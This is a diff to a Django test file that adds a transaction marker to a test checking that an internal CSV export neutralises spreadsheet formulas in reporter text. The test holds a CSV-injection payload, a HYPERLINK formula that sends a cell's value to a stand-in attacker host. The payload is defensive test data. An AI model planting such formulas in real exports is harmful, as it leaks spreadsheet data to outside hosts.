@@ -151,6 +151,8 @@ def test_csv_cells_that_look_like_formulas_are_neutralised():
     assert cell(-3) == "-3" and cell(2.5) == "2.5" and cell(None) == "" and cell("ok") == "ok"
 
 
+@pytest.mark.django_db(transaction=True)  # the real worker closes a connection left in a
+# transaction (close_old_connections): on PostgreSQL the test must not run inside one
 def test_observatory_internal_csv_neutralises_reporter_text(client_for, reporter_a, analyst,
                                                              report_a, run_tasks):
     payload = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
